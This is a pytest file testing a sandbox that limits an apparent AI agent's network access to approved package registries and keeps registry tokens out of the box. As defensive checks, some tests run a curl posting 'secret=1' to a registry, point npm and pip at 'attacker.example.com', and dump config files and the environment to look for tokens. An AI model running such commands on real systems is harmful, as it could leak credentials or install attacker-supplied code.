"""Package managers in boxes of known agents, with the registries that their user's settings name."""

import json

import pytest

from egress.upstream_servers import OUTSIDE
from needs import missing
from real.package_servers import TOKEN, Index, OpenIndex, OpenRegistry, Registry
from real.running import USERS, Done, Place, place
from real.world import Host, host
from ringfence.policy.load import load
from ringfence.wiring.registries import registries_for

_PIP = "env PYTHONPATH=$(ls /usr/share/python-wheels/pip-*.whl) /usr/bin/python3 -m pip"
_INSTALL = f"""
    set -e
    {_PIP} install -q --no-cache-dir --disable-pip-version-check --root-user-action ignore --target there one
    PYTHONPATH=there /usr/bin/python3 -c 'import one; print(one.word)'
"""
_NPM = """
    set -e
    npm install --loglevel=error --no-audit --no-fund one
    node -e "console.log(require('one').word)"
"""


def _lead(here: Place, *hosts: Host) -> None:
    """Names lead to these hosts; nothing else is said of any agent."""
    here.needs_ringfence()
    ca = here.home / "outside.pem"
    ca.write_text(OUTSIDE.certificate_pem)
    here.own(ca)
    there = "".join(
        f"\n          - {{host: {each.name}, to_host: 127.0.0.1, to_port: {each.port}, ca: {ca}}}"
        for each in hosts
    )
    here.policy(
        f"version: 1\nagents:\n  profiles:\n    claude:\n      egress:\n        connect_to: {there}\n"
    )


def _settings(here: Place, name: str, text: str) -> None:
    path = here.home / name
    for folder in reversed(path.relative_to(here.home).parents):
        here.own(here.home / folder, make=True)
    path.write_text(text)
    here.own(path)


def _run(here: Place, script: str) -> Done:
    return here.ringfence("run", "--agent", "claude", "--", "sh", "-c", script)


@pytest.mark.parametrize("user", USERS)
def test_pip_installs_from_the_index_that_its_user_has_set(user: str) -> None:
    with place(user) as here, host("pip.example.com", OpenIndex) as index:
        _lead(here, index)
        _settings(here, ".config/pip/pip.conf", "[global]\nindex-url = https://pip.example.com/simple\n")
        done = _run(here, _INSTALL)
        assert (done.exit, done.out.splitlines()[-1:]) == (0, ["one"]), done
        done = _run(here, "curl -s -w '%{http_code}' -d secret=1 https://pip.example.com/simple/one/")
        assert done.out.endswith("403"), done
        asked = {each["host"]: (each["allowed"], each["refused"]) for each in here.report()["hosts"]}
        assert asked == {"pip.example.com": (0, 1)}


@pytest.mark.parametrize("user", USERS)
def test_npm_installs_from_the_registry_that_its_user_has_set(user: str) -> None:
    with place(user) as here, host("npm.example.com", OpenRegistry) as registry:
        _lead(here, registry)
        _settings(here, ".npmrc", "registry=https://npm.example.com/\n")
        done = _run(here, _NPM)
        assert (done.exit, done.out.splitlines()[-1:]) == (0, ["one"]), done


@pytest.mark.parametrize("user", USERS)
def test_logins_of_registries_stay_outside(user: str) -> None:
    """The user's own files have them; the box has placeholders, in the place where its programs look."""
    with (
        place(user) as here,
        host("npm.example.com", Registry) as registry,
        host("pip.example.com", Index) as index,
    ):
        _lead(here, registry, index)
        own = f"registry=https://npm.example.com/\n//npm.example.com/:_authToken={TOKEN}\n"
        _settings(here, ".npmrc", own)
        _settings(
            here,
            ".config/pip/pip.conf",
            f"[global]\nindex-url = https://ann:{TOKEN}@pip.example.com/simple\n",
        )
        adopted = here.ringfence("vault", "adopt", "--yes")
        assert adopted.exit == 0, adopted
        done = _run(here, f"{_NPM}\n{_INSTALL}\ncat ~/.npmrc ~/.config/pip/pip.conf; env")
        assert (done.exit, done.out.count("one\n")) == (0, 2), done
        assert TOKEN not in done.out + done.err


def test_a_tree_s_own_settings_open_nothing() -> None:
    with place() as here, host("attacker.example.com", OpenRegistry) as theirs:
        _lead(here, theirs)
        here.write(".npmrc", "registry=https://attacker.example.com/\n")
        here.write("pip.conf", "[global]\nindex-url = https://attacker.example.com/simple\n")
        done = _run(
            here, "PIP_CONFIG_FILE=pip.conf; curl -s -w '%{http_code}' https://attacker.example.com/one"
        )
        assert done.out.endswith("403"), done
        assert _run(here, _NPM).exit != 0


def test_what_a_box_may_read_is_explained_before_it_starts() -> None:
    with place() as here:
        _settings(here, ".npmrc", "# mine\nregistry=https://npm.example.com:4873/packages/\n")
        asked = here.write(
            "asked.json",
            '{"action": "http.request", "agent": "claude", "session": "s", "host": "npm.example.com", '
            '"port": 4873, "method": "GET", "path": "/packages/one"}',
        )
        done = here.ringfence("policy", "explain", "--json", "--in-box", "--action", str(asked))
        told = json.loads(done.out)["sections"][0]
        assert (told["effect"], told["rule"], told["at"]) == (
            "allow",
            "built-in registries: npm's at npm.example.com:4873/packages (requests)",
            "~/.npmrc:2",
        )


@pytest.mark.parametrize("user", USERS)
def test_without_settings_it_is_the_registry_of_the_npm_that_is_installed(user: str) -> None:
    with place(user) as here:
        found = registries_for(here.environment, tree=str(here.tree), policy=load([])).found
        own = next((each for each in found if each.program == "npm"), None)
        if own is None:
            missing("npm, with its own registry", "scripts/install-test-needs")
            return
        with host(own.host, OpenRegistry) as registry:
            _lead(here, registry)
            done = _run(here, _NPM)
            assert (done.exit, done.out.splitlines()[-1:]) == (0, ["one"]), done
